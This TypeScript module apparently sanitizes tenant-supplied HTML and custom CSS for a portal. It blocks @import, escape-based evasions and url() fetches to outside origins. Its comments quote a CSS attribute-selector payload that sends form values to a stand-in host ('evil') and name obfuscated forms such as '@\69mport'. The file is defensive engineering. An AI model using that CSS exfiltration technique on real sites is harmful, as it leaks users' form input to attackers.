import { tenantHtmlPolicy } from '@portal/shared/constants';
import DOMPurify from 'isomorphic-dompurify';

/**
 * Tenant branding is stored exactly as the tenant gave it and sanitized on the way out, so a
 * stricter rule applies to existing rows without a data migration.
 */

/** Shared with the shell's DOMPurify (@portal/shared/constants): one policy on both sides. */
const HTML_POLICY = tenantHtmlPolicy();

/** Header/footer HTML without scripts, event handlers, javascript: URLs, styles or form controls. */
export function sanitizeTenantHtml(html: string | null): string | null {
  return html === null ? null : DOMPurify.sanitize(html, HTML_POLICY);
}

export interface CssPolicy {
  /** Origins (e.g. https://assets.example.com) besides the portal's own that url() may load from. */
  allowedOrigins?: readonly string[];
}

/** Schemes the browser would fetch over the network: only these can carry data out. */
const NETWORK_PROTOCOLS = new Set(['http:', 'https:', 'ftp:', 'ws:', 'wss:']);
/**
 * Stand in for "the portal's own origin" when resolving relative URLs. Both schemes, because
 * `https:evil.example/a` is a relative path on an https page but another origin on an http one.
 */
const OWN_ORIGIN_BASES = ['https://portal.invalid/', 'http://portal.invalid/'];

/**
 * Custom CSS without `@import` and without any url()/string that would make the browser fetch
 * from another origin. CSS attribute selectors can read form values
 * (`input[value^="a"] { background: url(https://evil/a) }`), so an outside fetch is a leak.
 * Escapes and comments are resolved first so `@\69mport` or `u\72l(` cannot slip through, and
 * URLs are judged by the WHATWG URL parser, the way the browser will read them.
 */
export function sanitizeTenantCss(css: string | null, policy: CssPolicy = {}): string | null {
  if (css === null) return null;
  const allowed = new Set(policy.allowedOrigins ?? []);
  const staysInside = (url: string) => !fetchesFromOutside(url, allowed);

  return decodeEscapes(stripComments(css))
    .replace(/</g, '') // nothing in CSS needs '<'; it could close the <style> element the shell writes into
    .replace(/@import\b[^;]*(;|$)/gi, '')
    .replace(/url\(\s*(?:"([^"]*)"?|'([^']*)'?|([^)'"\s]*))\s*\)?/gi, (whole, double, single, bare) =>
      staysInside(double ?? single ?? bare ?? '') ? whole : 'none',
    )
    .replace(/"[^"\n]*"?|'[^'\n]*'?/g, (quoted: string) =>
      staysInside(quoted.replace(/^["']|["']$/g, '')) ? quoted : '""',
    );
}

function stripComments(css: string): string {
  return css.replace(/\/\*[\s\S]*?(\*\/|$)/g, '');
}

function decodeEscapes(css: string): string {
  return css
    .replace(/\\\r?\n/g, '')
    .replace(/\\([0-9a-fA-F]{1,6})[ \t\n]?/g, (_, hex: string) => {
      const codePoint = parseInt(hex, 16);
      return codePoint > 0 && codePoint <= 0x10ffff ? String.fromCodePoint(codePoint) : '\uFFFD';
    })
    .replace(/\\(.)/g, '$1');
}

function fetchesFromOutside(rawUrl: string, allowedOrigins: ReadonlySet<string>): boolean {
  // The URL parser drops tabs and newlines and trims control characters: do the same first.
  // eslint-disable-next-line no-control-regex -- matching those characters is the point
  const url = rawUrl.replace(/[\t\n\r]/g, '').replace(/^[\u0000-\u0020]+|[\u0000-\u0020]+$/g, '');
  return OWN_ORIGIN_BASES.some((base) => {
    let parsed: URL;
    try {
      parsed = new URL(url, base);
    } catch {
      return false; // the browser cannot fetch what it cannot parse
    }
    if (!NETWORK_PROTOCOLS.has(parsed.protocol)) return false;
    return parsed.origin !== new URL(base).origin && !allowedOrigins.has(parsed.origin);
  });
}
